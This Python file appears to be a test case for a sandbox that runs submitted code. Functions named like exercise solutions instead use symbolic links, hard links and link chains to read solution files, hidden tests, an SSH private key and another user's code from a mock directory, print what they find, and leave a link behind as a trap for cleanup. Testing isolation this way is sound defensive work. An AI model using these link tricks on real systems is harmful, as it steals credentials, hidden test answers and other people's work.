# technique: make links to secrets in one's own folder, where reading is allowed, and read through them
# live: evidence: a link is as good as the file
# outcome: raised
# says: the links lead nowhere
# not at process: reads files, which that level does not stop
import os

WORLD = os.path.realpath("/tmp/attacked-world-47113")
WANTED = ["course/solutions/victim.py", "course/tests/hidden/test_victim.py", "home/.ssh/id_rsa", "neighbour/victim.py"]


def symbolic(source, name):
    os.symlink(source, name)
    return name


def symbolic_folder(source, name):
    """A link to the folder above, and the file through it."""
    os.symlink(os.path.dirname(source), name)
    return f"{name}/{os.path.basename(source)}"


def hard(source, name):
    os.link(source, name)
    return name


def hard_from_a_link(source, name):
    os.symlink(source, f"{name}-first")
    os.link(f"{name}-first", name, follow_symlinks=True)
    os.unlink(f"{name}-first")
    return name


def chain(source, name):
    for number in range(5):
        os.symlink(f"{name}-{number + 1}", f"{name}-{number}")
    os.symlink(source, f"{name}-5")
    return f"{name}-0"


def loot():
    found = []
    for way in (symbolic, symbolic_folder, hard, hard_from_a_link, chain):
        for number, path in enumerate(WANTED):
            name = f"link-47113-{way.__name__}-{number}"
            try:
                path = way(f"{WORLD}/{path}", name)
                found.append(f"{way.__name__}: {open(path).read()[-45:].strip()}")
            except OSError:
                continue
            finally:
                for each in os.listdir():
                    if each.startswith("link-47113"):
                        os.unlink(each)
    return found


def double(x):
    found = loot()
    told = f"EVIDENCE: {len(found)}: {found}" if found else "the links lead nowhere"
    print(told)
    raise RuntimeError(told)


def mean_square(x):
    # Left behind: whoever tidies up must not follow it.
    os.makedirs("left-47113", exist_ok=True)
    if not os.path.lexists("left-47113/course"):
        os.symlink(f"{WORLD}/course", "left-47113/course")
    raise RuntimeError("the links lead nowhere")


def step(w, learning_rate):
    raise RuntimeError("the links lead nowhere")
